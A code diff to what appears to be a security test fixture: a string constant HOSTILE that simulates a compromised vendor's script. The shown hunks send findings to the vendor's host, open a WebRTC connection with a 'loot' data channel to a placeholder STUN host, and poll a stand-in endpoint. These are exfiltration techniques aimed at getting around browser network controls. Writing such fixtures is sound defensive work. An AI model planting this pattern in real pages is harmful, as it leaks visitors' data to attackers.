@@ -1,7 +1,7 @@
 /**
- * The script of a vendor that has turned. It tells the vendor's own host what it got (`/found`), then tries to lead the
- * visitor away, and says when it has tried everything (`/end`). EVIL stands for the origin of a stranger,
- * STRANGER for a host and port at which he waits for calls.
+ * The script of a vendor that has turned. It tells the vendor's own host what it got (`/found`), asks it whether a call has
+ * arrived (`/called`), then tries to lead the visitor away, and says when it has tried everything (`/end`). EVIL stands for the
+ * origin of a stranger, STRANGER for a host and port at which he waits for calls.
  */
 export const HOSTILE = `(async () => {
   const found = new Set();
@@ -64,7 +64,8 @@ export const HOSTILE = `(async () => {
     const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:STRANGER' }] });
     call.createDataChannel('loot');
     await call.setLocalDescription(await call.createOffer());
-    await new Promise((resolve) => setTimeout(resolve, 1000));
+    const hasArrived = async () => (await (await fetch('https://widgets.example/called')).text()) === 'yes';
+    for (let turn = 0; turn < 100 && !(await hasArrived()); turn += 1);
   });
 
   await quietly(() => {
